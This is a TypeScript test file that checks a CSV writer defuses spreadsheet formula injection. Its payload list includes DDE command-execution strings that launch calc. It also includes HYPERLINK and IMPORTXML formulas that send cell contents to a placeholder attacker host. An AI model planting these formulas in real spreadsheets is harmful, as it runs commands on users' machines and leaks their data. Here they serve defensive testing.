/** Tables for spreadsheets: what people typed is text to them, never a formula. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { makeCsv } from "../../src/documents/csv.ts";

const textOf = (bytes: Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
const cellOf = (text: string) => readCsv(textOf(makeCsv(["h"], [[text]])))[1]?.[0];

/** A reader of its own, by RFC 4180, so that the writer is not asked about itself. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let at = text.startsWith("\u{FEFF}") ? 1 : 0;
  while (at < text.length) {
    const row: string[] = [];
    for (;;) {
      expect(text[at]).toBe('"');
      let cell = "";
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === '"') at += 1;
        cell += text[at];
      }
      row.push(cell);
      at += 1;
      if (text[at] !== ",") break;
      at += 1;
    }
    expect(text.slice(at, at + 2)).toBe("\r\n");
    at += 2;
    rows.push(row);
  }
  return rows;
}

/** As published for testing spreadsheets, and their like. */
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "+1+1",
  "+441234567890",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u{00A0}=1+1",
  "\u{FEFF}=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "-",
];

describe("a table for spreadsheets", () => {
  it.each(PAYLOADS)("makes %j harmless, and loses none of its words", (payload) => {
    const cell = cellOf(payload) ?? "";
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(payload.replaceAll("\0", ""));
  });

  it("leaves ordinary words, references and figures as they are", () => {
    for (const text of [
      "ASH-7K3M9",
      "26 November 2026",
      "",
      "Siân O’Neill said “no”, twice",
      "3 = three",
      "a\nb",
    ])
      expect(cellOf(text)).toBe(text);
  });

  it("begins with a byte order mark, ends lines with CR LF, doubles quotes", () => {
    const bytes = makeCsv(["a", "b"], [['say "x", then', "é"]]);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(textOf(bytes)).toBe('\u{FEFF}"a","b"\r\n"say ""x"", then","é"\r\n');
  });

  it("keeps every row as long as the header, whatever is typed, and no cell begins as a formula", () => {
    const rows = fc.array(fc.array(fc.string({ unit: "grapheme" }), { maxLength: 4 }), { maxLength: 6 });
    fc.assert(
      fc.property(rows, (given) => {
        const read = readCsv(textOf(makeCsv(["a", "b", "c"], given)));
        expect(read).toHaveLength(given.length + 1);
        for (const row of read) {
          expect(row).toHaveLength(3);
          for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
        }
      }),
    );
  });
});
